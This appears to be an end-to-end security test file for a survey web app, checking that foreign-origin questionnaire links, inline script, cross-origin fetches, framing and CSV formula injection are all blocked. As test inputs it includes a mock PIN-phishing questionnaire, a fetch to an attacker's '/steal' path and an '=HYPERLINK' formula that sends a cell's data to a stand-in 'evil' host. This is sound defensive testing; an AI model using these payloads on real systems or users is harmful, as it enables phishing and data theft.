// End to end: what an attacker with a link can and cannot do. A second server
// on another port plays the attacker's origin and counts every request it gets;
// a link naming its questionnaire must be refused before anything is fetched,
// and the Content-Security-Policy in force (header and <meta>) must refuse
// other origins and inline script. A customer's call-back name written as a
// spreadsheet formula reaches the branch's CSV as text, and back unchanged.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { readFileSync, readdirSync } from 'node:fs';
import { openStaff } from './browser.mjs';
import { HEADERS, META_POLICY, POLICY, headersFile } from '../../scripts/headers.mjs';
import { launch, unlockStaff } from './browser.mjs';

const PHONE = { viewport: { width: 390, height: 844 }, hasTouch: true, isMobile: true };
// The phishing questionnaire of the report: "choose digit n of your card PIN".
const PIN = JSON.stringify({
  id: 'pin',
  version: '1',
  title: { 'zh-CN': '安全验证', en: 'Security check' },
  questions: [
    {
      id: 'q1',
      kind: 'single',
      text: { 'zh-CN': '请选择您银行卡密码的第 1 位', en: 'Choose digit 1 of your card PIN' },
      options: [{ code: 'A', label: { 'zh-CN': '0', en: '0' } }],
    },
  ],
});

let env;
let evil;
let evilUrl;
const evilHits = [];
before(async () => {
  env = await launch();
  evil = createServer((req, res) => {
    evilHits.push(req.url);
    res
      .writeHead(200, { 'Content-Type': 'application/json', 'Access-Control-Allow-Origin': '*' })
      .end(PIN);
  });
  await new Promise((ok) => evil.listen(0, '127.0.0.1', ok));
  evilUrl = `http://127.0.0.1:${evil.address().port}`;
});
after(async () => {
  await env?.close();
  await new Promise((ok) => evil?.close(ok));
});

test("a link naming another origin's questionnaire is refused on every page, and nothing is fetched from it", async () => {
  const context = await env.newContext({ ...PHONE, serviceWorkers: 'block' });
  const attempts = [
    `${evilUrl}/pin.json`,
    `//127.0.0.1:${new URL(evilUrl).port}/pin.json`,
    `${evilUrl}/instruments/pin.json`,
    'instruments/../pin.json',
    '/instruments/zg-x-branch-2023.json',
    'data:application/json,{}',
  ];
  const pages = [
    ['survey.html', '#screen [role="alert"]'],
    ['entry.html', '#entry-msg'],
    ['paper-form.html', '#sheet [role="alert"]'],
  ];
  for (const [file, alert] of pages) {
    for (const attempt of attempts) {
      const page = await context.newPage();
      const errors = [];
      page.on('pageerror', (e) => errors.push(e));
      await page.goto(
        `${env.url}${file}?instrument=${encodeURIComponent(attempt)}&inv=7ZZZZZZZZZZZZZZZZZZZZZZZ`,
      );
      // The entry screen is a staff screen: past its lock first.
      if (file === 'entry.html') await unlockStaff(page);
      await page.locator('html[data-ready="error"]').waitFor();
      const shown = await page.locator(alert).textContent();
      assert.match(shown, /instruments\//, `${file} with ${attempt}: ${shown}`);
      assert.ok(
        !/PIN|密码/.test(await page.locator('body').textContent()),
        `${file} shows no question from ${attempt}`,
      );
      assert.deepEqual(errors, []);
      await page.close();
    }
  }
  assert.deepEqual(evilHits, [], "the attacker's server was never asked");
  await context.close();
});

test('the Content-Security-Policy is in force: header and <meta> agree, other origins and inline script are refused', async () => {
  // Every page carries the policy as a <meta> tag (without frame-ancestors, which only a header can carry).
  const www = new URL('../../www/', import.meta.url);
  for (const file of readdirSync(www).filter((f) => f.endsWith('.html'))) {
    const html = readFileSync(new URL(file, www), 'utf8');
    const meta = html.match(/<meta http-equiv="Content-Security-Policy" content="([^"]+)">/);
    assert.equal(meta?.[1], META_POLICY, `${file} carries the policy`);
    assert.ok(!/<script(?![^>]*\bsrc=)[^>]*>/.test(html), `${file} has no inline script`);
    assert.ok(!/\sstyle="/.test(html), `${file} has no inline style`);
    assert.ok(!/\son[a-z]+="/.test(html), `${file} has no inline handler`);
  }
  for (const directive of [
    "default-src 'self'",
    "connect-src 'self'",
    "frame-ancestors 'none'",
    "object-src 'none'",
    "base-uri 'none'",
  ]) {
    assert.ok(POLICY.split('; ').includes(directive), directive);
  }
  assert.ok(!POLICY.includes('unsafe-inline') && !POLICY.includes("'unsafe-eval'"));
  // dist/_headers says the same as the server.
  for (const [name, value] of Object.entries(HEADERS))
    assert.ok(headersFile().includes(`  ${name}: ${value}\n`), name);

  const context = await env.newContext({ ...PHONE, serviceWorkers: 'block' });
  const page = await context.newPage();
  const response = await page.goto(`${env.url}survey.html`);
  await page.locator('html[data-ready="true"]').waitFor();
  const headers = response.headers();
  assert.equal(headers['content-security-policy'], POLICY);
  assert.equal(headers['x-frame-options'], 'DENY');
  assert.equal(headers['referrer-policy'], 'no-referrer');
  const outcome = await page.evaluate(async (other) => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      violations.push(e.effectiveDirective),
    );
    // An injected inline script does not run.
    const s = document.createElement('script');
    s.textContent = 'window.pwned = true';
    document.body.append(s);
    // Nothing is fetched from another origin.
    let fetched;
    try {
      await fetch(`${other}/steal?d=1`);
      fetched = true;
    } catch {
      fetched = false;
    }
    // No inline style attribute from markup.
    const div = document.createElement('div');
    div.innerHTML = '<p style="color: rgb(255, 0, 0)">x</p>';
    document.body.append(div);
    const colour = getComputedStyle(div.firstChild).color;
    div.remove();
    await new Promise((ok) => setTimeout(ok, 50));
    return { pwned: 'pwned' in window, fetched, colour, violations };
  }, evilUrl);
  assert.equal(outcome.pwned, false);
  assert.equal(outcome.fetched, false);
  assert.notEqual(outcome.colour, 'rgb(255, 0, 0)');
  for (const d of ['script-src-elem', 'connect-src', 'style-src-attr'])
    assert.ok(outcome.violations.includes(d), `${d} in ${outcome.violations}`);
  assert.deepEqual(evilHits, []);
  // The pages cannot be framed by another site.
  const framer = createServer((req, res) =>
    res
      .writeHead(200, { 'Content-Type': 'text/html' })
      .end(`<iframe src="${env.url}survey.html"></iframe>`),
  );
  await new Promise((ok) => framer.listen(0, '127.0.0.1', ok));
  const host = await context.newPage();
  await host.goto(`http://127.0.0.1:${framer.address().port}/`);
  await host.waitForTimeout(500);
  const framed = host.frames().find((f) => f !== host.mainFrame());
  const loaded = framed
    ? await framed.evaluate(() => document.documentElement.dataset.ready ?? null).catch(() => null)
    : null;
  assert.equal(loaded, null, "the survey does not run inside another site's frame");
  await new Promise((ok) => framer.close(ok));
  await context.close();
});

test('a call-back name written as a formula is exported as text and imported back unchanged', async () => {
  const BUILTIN = readFileSync(
    new URL('../../instruments/zg-x-branch-2023.json', import.meta.url),
    'utf8',
  );
  const CALLBACK = BUILTIN.replace('"version": "2",', '"version": "2",\n  "callback": true,');
  const EVIL = '=HYPERLINK("http://evil/?d="&B2,"click")';
  const ROW = ['A', 'A', 'C', 'G', 'A', 'D', 'H', 'C', 'E', 'B', 'D', 'C', 'C', 'C', 'C', 'B', '3'];
  const context = await env.newContext({
    viewport: { width: 1280, height: 900 },
    serviceWorkers: 'block',
  });
  await context.route('**/instruments/callback-instrument.json', (route) =>
    route.fulfill({ contentType: 'application/json', body: CALLBACK }),
  );
  const page = await context.newPage();
  await openStaff(page, env.url);
  await page.goto(`${env.url}survey.html?instrument=instruments/callback-instrument.json`);
  for (let n = 1; n <= 17; n++) {
    await page.locator(`html[data-screen="q${n}"][data-settled]`).waitFor();
    await page.locator(`#screen .option[data-code="${ROW[n - 1]}"]`).click();
  }
  await page.locator('html[data-screen="contact"][data-settled]').waitFor();
  await page.locator('#name').fill(EVIL);
  await page.locator('#phone').fill('+86 138 0013 8000');
  await page.locator('#consent').check();
  await page.locator('#next').click();
  await page.locator('html[data-screen="review"][data-settled]').waitFor();
  await page.locator('#submit').click();
  await page.locator('html[data-screen="thanks"][data-settled]').waitFor();
  await page.goto(env.url);
  await page.waitForFunction(() => document.querySelector('#store-status')?.dataset.total === '1');
  await page.locator('#export-contacts').check();
  const exportCsv = async (p) => {
    const [dl] = await Promise.all([
      p.waitForEvent('download'),
      p.locator('[data-export="csv"]').click(),
    ]);
    return readFileSync(await dl.path(), 'utf8');
  };
  const csv = await exportCsv(page);
  const line = csv.split(/\r?\n/)[1];
  // The name is text a spreadsheet shows, not a formula it runs; so is the phone starting with +.
  assert.ok(line.includes(`"'=HYPERLINK(""http://evil/?d=""&B2,""click"")"`), line);
  assert.ok(line.includes("'+86 138 0013 8000"), line);
  assert.ok(!/(^|,)"?[=+@-]/.test(line.split(',').slice(1).join(',')), line);
  // Another device imports the file and exports the same cells.
  const other = await env.newContext({
    viewport: { width: 1280, height: 900 },
    serviceWorkers: 'block',
  });
  const second = await other.newPage();
  await openStaff(second, env.url);
  await second.waitForFunction(
    () => document.querySelector('#store-status')?.dataset.total !== undefined,
  );
  await second
    .locator('#import-file')
    .setInputFiles({ name: 'branch.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) });
  await second.locator('#preview:not([hidden])').waitFor();
  await second.locator('#commit').click();
  await second.waitForFunction(() => document.querySelector('#store-status').dataset.total === '1');
  await second.locator('#export-contacts').check();
  const stored = await second.evaluate(async () => {
    const s = await import('/storage.js');
    const db = await s.openDb();
    return (await s.done(db.transaction('responses').objectStore('responses').getAll())).length;
  });
  assert.equal(stored, 0, 'an import goes to the chunks, not the log');
  // Exactly the same cells, with the import's own `source` column added.
  const again = await exportCsv(second);
  assert.equal(again.replace(',source,', ',').replace(',branch.csv,', ','), csv);
  await other.close();
  await context.close();
});
